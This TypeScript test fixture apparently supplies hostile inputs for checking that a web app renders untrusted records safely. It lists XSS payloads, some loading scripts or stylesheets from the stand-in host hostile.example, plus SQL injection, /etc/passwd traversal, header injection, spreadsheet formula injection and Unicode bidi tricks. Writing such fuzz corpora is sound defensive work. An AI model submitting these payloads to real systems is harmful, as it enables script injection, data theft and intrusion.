/** What somebody could put into a record to hurt whoever reads it. `pwned()` is what all of them try to call. */

const call = 'pwned(1)';

const elements = [
  `<script>${call}</script>`, `<ScRiPt>${call}</ScRiPt>`, `<script src="https://hostile.example/a.js"></script>`, `<script type=module>${call}</script>`, `</script><script>${call}</script>`,
  `<img src=x onerror=${call}>`, `<img src=x onerror="${call}"`, `<IMG SRC=x OnErRoR=${call}>`, `<img/src=x/onerror=${call}>`, `<img src="x" onerror\n=${call}>`, `<img src=https://hostile.example/pixel.gif>`, `<img srcset="https://hostile.example/p 1x">`,
  `<svg onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${call}>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}/>#x">`, `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src="javascript:parent.${call}"></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `<iframe src=https://hostile.example/></iframe>`, `<object data="javascript:${call}"></object>`, `<embed src="javascript:${call}">`, `<object data="data:text/html,<script>parent.${call}</script>">`,
  `<body onload=${call}>`, `<body onpageshow=${call}>`, `<input autofocus onfocus=${call}>`, `<select autofocus onfocus=${call}>`, `<textarea autofocus onfocus=${call}>`, `<keygen autofocus onfocus=${call}>`, `<a href=# autofocus onfocus=${call} tabindex=0>x</a>`,
  `<video src=x onerror=${call}>`, `<audio src=x onerror=${call}>`, `<video><source onerror=${call}></video>`, `<video poster=javascript:${call}>`, `<details open ontoggle=${call}><summary>x</summary></details>`, `<marquee onstart=${call}>x</marquee>`, `<meter onmouseover=${call}>x</meter>`,
  `<form action="javascript:${call}"><button>x</button></form>`, `<button formaction="javascript:${call}">x</button>`, `<isindex action="javascript:${call}" type=image>`, `<form><input type=image src=x onerror=${call}>`, `<form id=x></form><button form=x formaction=javascript:${call}>x</button>`,
  `<base href="https://hostile.example/">`, `<base href="javascript:/a/+${call}//">`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<meta http-equiv=refresh content="0;url=https://hostile.example/">`, `<link rel=stylesheet href="https://hostile.example/a.css">`, `<link rel=import href="data:text/html,<script>${call}</script>">`, `<link rel=prefetch href=https://hostile.example/>`,
  `<a href="javascript:${call}">click</a>`, `<a href="&#106;avascript:${call}">click</a>`, `<a href="java&#10;script:${call}">click</a>`, `<area href="javascript:${call}">`, `<math><mtext></mtext><a xlink:href="javascript:${call}">x</a></math>`, `<math><mglyph><style><img src=x onerror=${call}></style></mglyph></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<title><img src=x onerror=${call}></title>`, `<textarea></textarea><img src=x onerror=${call}>`, `<xmp><img src=x onerror=${call}></xmp>`, `<plaintext>`, `<template><img src=x onerror=${call}></template>`, `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<slot onslotchange=${call}></slot>`, `<day-opportunity-finder api="https://hostile.example/v1"></day-opportunity-finder>`, `<day-plan-viewer api="https://hostile.example/v1" onfocus=${call} tabindex=0></day-plan-viewer>`, `<dialog open onclose=${call}>`, `<portal src=https://hostile.example/>`, `<bgsound src="javascript:${call}">`, `<layer src="javascript:${call}">`,
  `<!--><img src=x onerror=${call}>-->`, `<![CDATA[<img src=x onerror=${call}>]]>`, `<?xml version="1.0"?><img src=x onerror=${call}>`, `--><img src=x onerror=${call}><!--`, `]]><img src=x onerror=${call}>`, `<style>*{background:url(https://hostile.example/css)}</style>`, `</style><img src=x onerror=${call}>`, `<p style="behavior:url(#x)" onclick=${call}>`, `<p style=animation:x onanimationstart=${call}>`,
];

const breakouts = ['"', "'", '`', '>', '" ', "' ", '">', "'>", '`>', '"/>', '\\"', '&quot;', '&#34;', '%22%3E', '\u2033>'].flatMap((quote) => [`${quote} onmouseover=${call} x=`, `${quote}<img src=x onerror=${call}>`]);

const likeTemplates = [
  '{{constructor.constructor("pwned(1)")()}}', '${pwned(1)}', '#{pwned(1)}', '<%= pwned(1) %>', '{% pwned(1) %}', '[[pwned(1)]]', '{{{pwned(1)}}}', '@{pwned(1)}', '*{pwned(1)}', '{pwned(1)}', '$(pwned(1))', '`${pwned(1)}`', '{{7*7}}', '${7*7}',
  '<!--?lit$123456789$-->', 'lit$123456789$', '<?lit$123456789$>', '{{lit-123}}', '<!--lit-part-->', '{name}', '{n}', '{phone}', '{0}', '%s%s%n%n', '%(name)s', '$1$&$`', '\\0\\1', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '[object Object]', 'undefined', 'null', 'NaN',
  '"; DROP TABLE bookings; --', "' OR 1=1 --", '../../../etc/passwd', '\r\nSet-Cookie: a=b', '\nBEGIN:VEVENT\nSUMMARY:x', '=cmd|/c calc!A1', '+1+1', '@SUM(1)', '-2+3',
];

const likeLetters = [
  '\u202Egnp.exe\u202C', '\u202Dleft\u202C', '\u2066isolated\u2069', '\u2067isolated', '\u200F\u200Fright', '\u200E', '\u061Cمرحبا', 'שלום עולם', 'مرحبا بالعالم', '\u200Bzero\u200Bwidth\u200B', '\u200Dj\u200Co\uFEFFin', '\u00ADsoft\u00ADhyphen',
  'Z\u0351\u036B\u0343\u0363a\u036B\u0353l\u0348\u0352\u0330g\u0345\u035Ao\u0312\u0305'.repeat(20), 'e\u0301'.repeat(300), '👩‍👩‍👧‍👦'.repeat(50), '🏴󠁧󠁢󠁷󠁬󠁳󠁿', '\u0000', `a\u0000<img src=x onerror=${call}>`, '\u0001\u0002\u0003\u0007\u0008', '\u001B[31mred\u001B[0m', '\uFFFE\uFFFF', '\uD800', '\uDC00lone', '\u2028\u2029', '\u0085', '\uFEFF', '\t\t\t', '\n\n\n\n\n\n', '   ', '',
  'W'.repeat(2000), 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft', 'a/'.repeat(500), '-'.repeat(800), '0'.repeat(400), 'very '.repeat(2000), '\u1D2C\u02B0', 'Ａ＜ｓｃｒｉｐｔ＞', '＜img src=x onerror=pwned(1)＞', '‹script›pwned(1)‹/script›', '+ADw-script+AD4-pwned(1)+ADw-/script+AD4-', '&lt;script&gt;pwned(1)&lt;/script&gt;', '&#60;img src=x onerror=pwned(1)&#62;', '\\u003cimg src=x onerror=pwned(1)\\u003e', '\\x3cscript\\x3epwned(1)\\x3c/script\\x3e', '%3Cscript%3Epwned(1)%3C/script%3E',
];

const likeStyles = ['expression(pwned(1))', 'url(javascript:pwned(1))', "red;background:url('https://hostile.example/css')", '}*{display:none}', '} @import "https://hostile.example/a.css"; {', 'var(--day-color-ink)', '-moz-binding:url(https://hostile.example/x.xml#x)', ';position:fixed;inset:0;z-index:9999', 'calc(1px*99999)', '\\65xpression(pwned(1))', '/**/', '<!-- -->', 'attr(href)', 'image-set(url(https://hostile.example/i.png) 1x)'];

const addresses = [
  'javascript:pwned(1)', 'JaVaScRiPt:pwned(1)', ' javascript:pwned(1)', '\tjavascript:pwned(1)', 'java\nscript:pwned(1)', 'java\tscript:pwned(1)', '\u0001javascript:pwned(1)', '\u0000javascript:pwned(1)', 'javascript\u200B:pwned(1)', 'javascript&colon;pwned(1)', '&#106;avascript:pwned(1)', 'javascript%3Apwned(1)', 'javascript://https://kingsmead.example/%0Apwned(1)', 'javascript:https://kingsmead.example/;pwned(1)', 'javascript:void(0)', 'feed:javascript:pwned(1)', 'view-source:javascript:pwned(1)', 'jar:javascript:pwned(1)',
  'data:text/html,<script>pwned(1)</script>', 'data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=pwned(1)>', 'DATA:text/html,x', 'vbscript:pwned(1)', 'livescript:pwned(1)', 'mocha:pwned(1)', 'file:///etc/passwd', 'file://hostile.example/share', 'blob:https://hostile.example/1', 'filesystem:https://hostile.example/1', 'about:blank', 'about:srcdoc', 'chrome://settings', 'ws://hostile.example/', 'ftp://hostile.example/', 'gopher://hostile.example/', 'intent://hostile#Intent;scheme=https;end', 'ms-settings:', 'steam://run/1', 'sms:+441632960001?body=x', 'geo:0,0', 'magnet:?xt=x', 'whatsapp://send', 'itms-apps://x',
  'http://hostile.example/', 'HTTP://hostile.example', '//hostile.example/', '\\\\hostile.example\\', '/\\hostile.example', '/relative', 'relative', '?query', '#fragment', '', ' ', 'https:', 'https://', 'https:hostile.example', 'https:/\\hostile.example', 'http:https://kingsmead.example', 'ht\ntps://hostile.example', 'tel:*%2306%23', 'mailto:', 'urn:isbn:1', 'null', 'undefined', '[object Object]', 'https://[::1', 'https://%00.example', 'https://\u202Emoc.elpmaxe/',
];

/** Texts, each unlike the others. */
export const texts: readonly string[] = [...new Set([...elements, ...breakouts, ...likeTemplates, ...likeLetters, ...likeStyles, ...addresses])];
/** Addresses, for fields that hold one. */
export const urls: readonly string[] = [...new Set([...addresses, ...breakouts.map((text) => `https://kingsmead.example/${text}`), ...elements.slice(0, 20).map((text) => `https://kingsmead.example/?q=${text}`)])];
/** Codes that later versions of the service might send; names every object has are the nastiest. */
export const codes: readonly string[] = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf', 'a-code-of-tomorrow', '<img src=x onerror=pwned(1)>', '" onmouseover=pwned(1) x="', '', 'W'.repeat(500)];
